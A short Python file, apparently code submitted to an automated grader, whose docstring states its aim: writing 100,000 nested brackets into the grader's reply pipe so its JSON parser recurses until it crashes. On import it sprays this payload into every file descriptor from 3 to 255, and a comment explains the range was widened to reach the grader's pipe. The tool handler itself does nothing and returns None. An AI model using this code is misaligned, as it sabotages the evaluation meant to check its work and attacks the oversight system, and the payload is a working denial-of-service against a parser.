"""Writes 100,000 nested brackets into the grader's reply pipe, hoping its JSON parser recurses to death."""
import os

# Every descriptor a worker may hold: the channel's numbers are the grader's, and a worker started while
# the grader held more files open got its reply pipe at 11 (a clean CI run missed it scanning 3-9).
for fd in range(3, 256):
    try:
        os.write(fd, b"[" * 100_000 + b"\n")
    except OSError:
        pass


def handle_tool_call(raw, ask_model):
    return None
